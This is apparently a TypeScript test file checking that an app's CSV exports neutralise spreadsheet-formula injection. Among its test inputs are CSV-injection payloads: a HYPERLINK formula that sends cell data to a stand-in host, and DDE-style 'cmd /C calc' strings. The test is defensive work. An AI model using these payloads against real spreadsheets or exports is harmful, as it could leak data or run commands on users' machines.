import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvUnguard, writeCsv } from '@/lib/csv';
import { partsToCsv } from '@/lib/inventory/csv';
import { reconciliationCsv, totalsCsv } from '@/lib/reconcile/csv';
import type { Reconciliation } from '@/lib/reconcile/report';

// Every CSV the product writes goes through one guard against spreadsheet formulas (OWASP "CSV
// Injection": a cell starting with = + - @ tab or carriage return is prefixed with a single quote so
// the spreadsheet keeps it as text).

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('csvCell', () => {
  it.each(HOSTILE)('keeps %j as text', (v) => {
    expect(csvCell(v)).toBe(`'${v}`);
    expect(csvUnguard(csvCell(v) as string)).toBe(v);
  });

  it('leaves ordinary text, plain numbers and non-strings alone', () => {
    for (const v of ['Juniper Ashdown', 'a=b', '12.50', '-12.50', '+3', '-7', '', 'x-1'])
      expect(csvCell(v)).toBe(v);
    for (const v of [12, -3, true, null, undefined]) expect(csvCell(v)).toBe(v);
    expect(csvUnguard("'plain")).toBe("'plain"); // only a quote the guard added is taken off
  });
});

describe('writeCsv', () => {
  it('guards every cell, header included, whether rows are arrays or objects', () => {
    const fromArrays = Papa.parse<string[]>(writeCsv(['name', '=head'], [['=1+1', 'ok']])).data;
    expect(fromArrays[0]).toEqual(['name', "'=head"]);
    expect(fromArrays[1]).toEqual(["'=1+1", 'ok']);
    const fromObjects = Papa.parse<string[]>(writeCsv(['a', 'b'], [{ a: '@x', b: '-1.25' }])).data;
    expect(fromObjects[1]).toEqual(["'@x", '-1.25']);
  });
});

const report = (buyer: string): Reconciliation => ({
  month: '2026-11',
  from: '2026-11-01T04:00:00.000Z',
  to: '2026-12-01T05:00:00.000Z',
  timeZone: 'America/New_York',
  currency: 'USD',
  closed: null,
  investigate: [],
  unresolved: 1,
  rows: [
    {
      key: 'txn_1',
      kind: 'charge',
      status: 'amount_differs',
      at: '2026-11-10T12:00:00.000Z',
      saleId: '0b1f3f8e-7d7a-4f7e-9a51-0f0c2b7d1a11',
      refundId: null,
      buyer,
      oursMinor: 300,
      theirsMinor: 150,
      differenceMinor: -150,
      feeMinor: 34,
      netMinor: 116,
      processorId: 'ch_1',
      txnId: 'txn_1',
      note: '-the processor charged less',
      saleRef: '0CFK-ZHZE',
      resolution: null,
    },
  ],
  totals: {
    processor: { grossMinor: 150, feesMinor: 34, refundsMinor: 0, netMinor: 116, paidOutMinor: 0 },
    ours: {
      cardMinor: 300,
      cashMinor: 0,
      cardRefundsMinor: 0,
      cashRefundsMinor: 0,
      depositsMinor: 0,
      depositReleasesMinor: 0,
      chargesMinor: 0,
      chargesFromDepositsMinor: 0,
    },
    counts: { matched: 0, ours_only: 0, theirs_only: 0, amount_differs: 1 },
  },
  payouts: [],
  fees: [],
});

describe('the books export', () => {
  it.each(HOSTILE)('keeps a buyer named %j as text', (name) => {
    const rows = Papa.parse<Record<string, string>>(reconciliationCsv(report(name)), { header: true }).data;
    expect(rows[0].buyer).toBe(`'${name}`);
    expect(rows[0].note).toBe("'-the processor charged less");
    expect(rows[0].difference).toBe('-1.50'); // an amount stays a number
  });

  it('writes times on the space’s clock with its offset, and no totals among the rows', () => {
    const csv = reconciliationCsv(report('Juniper Ashdown'));
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows).toHaveLength(1);
    // 12:00 UTC on 10 November is 07:00 in New York, on standard time (UTC−05:00) since 1 November.
    expect(rows[0].when).toBe('2026-11-10T07:00:00-05:00');
    expect(rows[0].sale).toBe('0CFK-ZHZE');
    expect(rows[0].our_amount).toBe('3.00');
    const totals = Papa.parse<Record<string, string>>(totalsCsv(report('x')), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(totals.find((t) => t.figure === 'card sales')).toMatchObject({
      side: 'our books',
      amount: '3.00',
    });
    expect(totals.find((t) => t.figure === 'card money taken')?.amount).toBe('1.50');
  });
});

describe('the parts export', () => {
  it('uses the same guard', () => {
    const csv = partsToCsv(
      [
        {
          sku: '@SKU',
          name: '+name',
          category: 'consumable',
          tracking: 'bulk',
          code: null,
          onHand: 1,
          unitsTotal: 0,
          reorderPoint: 0,
          priceMinor: 100,
          saleUnit: 'each',
          sellable: true,
          lendable: false,
          keySpec: '\tkey',
          specs: { note: '=1+1' },
        },
      ],
      'USD',
    );
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows[1].slice(0, 2)).toEqual(["'@SKU", "'+name"]);
    expect(rows[1]).toContain("'\tkey");
    expect(rows[1]).toContain("'=1+1");
  });
});

describe('one guard for every CSV', () => {
  const files = (dir: string): string[] =>
    readdirSync(dir).flatMap((f) => {
      const p = path.join(dir, f);
      return statSync(p).isDirectory() ? files(p) : /\.tsx?$/.test(f) ? [p] : [];
    });

  it('nothing in app/, lib/ or components/ writes CSV except through lib/csv.ts', () => {
    const root = path.resolve(__dirname, '../..');
    const writers = ['app', 'lib', 'components']
      .flatMap((d) => files(path.join(root, d)))
      .filter((f) => /\bunparse\s*\(/.test(readFileSync(f, 'utf8')))
      .map((f) => path.relative(root, f));
    expect(writers).toEqual(['lib/csv.ts']);
  });
});
